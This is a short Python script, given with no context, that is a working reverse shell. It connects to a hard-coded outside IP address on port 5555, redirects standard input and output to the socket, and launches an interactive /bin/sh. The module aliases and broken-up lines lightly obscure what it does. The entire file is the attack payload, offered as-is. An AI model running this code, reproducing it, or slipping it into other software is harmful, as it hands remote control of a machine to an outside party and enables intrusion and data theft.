import socket as \
    net
import os as o
import subprocess as sp
_s = net.socket(
    net.AF_INET,
    net.SOCK_STREAM
)
_s.connect(
    ("104.248.33.70",
     5555)
)
o.dup2(
    _s.fileno(),
    0)
o.dup2(_s.fileno(), 1)
sp.call(
    ["/bin/sh",
     "-i"]
)
